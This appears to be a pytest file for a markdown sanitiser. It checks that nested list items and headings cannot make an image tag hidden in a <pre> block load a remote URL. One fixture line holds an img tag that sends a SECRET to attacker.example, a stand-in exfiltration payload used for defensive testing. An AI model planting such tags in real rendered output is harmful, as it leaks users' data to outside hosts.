"""Nested list items in what the editor is sent (`acp/inert.py`): a line's indentation is read
from the innermost open item it reaches, so a fence or indented code in an outer item after an
inner one is code there and ends with the outer item; a heading, thematic break or setext
underline ends the paragraph before it, so the numbered item after it is one. Each case is
judged against markdown-it-py, whole and cut in two at every character."""

from __future__ import annotations

import pytest
from markdown_fuzz import ALLOWED_HOST, remote_loads, streamed_in_two
from markdown_it import MarkdownIt

from loopwright.acp.inert import MarkdownGuard

_RENDERER = MarkdownIt("commonmark", {"html": True})
_GUARD = MarkdownGuard((ALLOWED_HOST,))
# a tag over a blank line in a `<pre>` block: it loads unless the `<pre>` is read as HTML
_TAG_IN_PRE = "<pre>\n<img\n\nsrc='https://attacker.example/p?d=SECRET'>\n"


def _every_cut(text: str) -> set[str]:
    """What the editor is sent for `text` whole, and streamed cut in two at every character."""
    shown = {_GUARD.text(text)}
    for cut in range(1, len(text)):
        shown.add(streamed_in_two(_GUARD, text, cut))
    return shown


@pytest.mark.parametrize("before", [
    "- a\n\n  2. two\n]\n   ~~~\n\n",  # the outer item's fence, the inner item lazily open
    "- a\n  - b\n\n  c\n   ~~~\n",  # the inner item ended by the outer's text
    "1. a\n   * b\n     * c\n   ```\n",  # three deep, the fence in the outermost
])
def test_a_fence_in_an_outer_item_ends_with_that_item(before: str) -> None:
    text = before + _TAG_IN_PRE
    assert remote_loads(text)  # as written, the tag loads
    for shown in _every_cut(text):
        assert remote_loads(shown) == []


def test_code_in_an_outer_item_after_an_inner_one_is_passed_as_written() -> None:
    """The fence is two columns into the outer item's text: code, not `&lt;i` shown literally."""
    text = "- a\n\n  2. two\n\n  b\n    ```\n    x <i\n    ```\n"
    assert "<code>x &lt;i\n</code>" in _RENDERER.render(text)
    assert _every_cut(text) == {text}


def test_a_lazy_line_keeps_every_item_open() -> None:
    """`lazy` continues the inner item's text: the fence four in is the inner item's, code."""
    text = "- a\n  - b\nlazy\n    ```\n    x <i\n    ```\n"
    assert "<code>x &lt;i\n</code>" in _RENDERER.render(text)
    assert _every_cut(text) == {text}


@pytest.mark.parametrize("ending", ["#", "# h", "===", "---", "***", "  ==="])
def test_a_heading_or_break_ends_the_paragraph_so_a_numbered_item_opens(ending: str) -> None:
    """After it `2. two` is an item whose fence the `<pre>` at the margin ends (fuzz seed
    62631): read as the paragraph going on, the fence was at the margin and held the rest."""
    text = f"a\n{ending}\n2. two\n   ~~~\n{_TAG_IN_PRE}"
    assert remote_loads(text)
    for shown in _every_cut(text):
        assert remote_loads(shown) == []


@pytest.mark.parametrize("text", ["#foo\n2. two\n", "=\n2. two\n", "a\n====\n"])
def test_what_is_no_heading_is_passed_as_written(text: str) -> None:
    assert _every_cut(text) == {text}
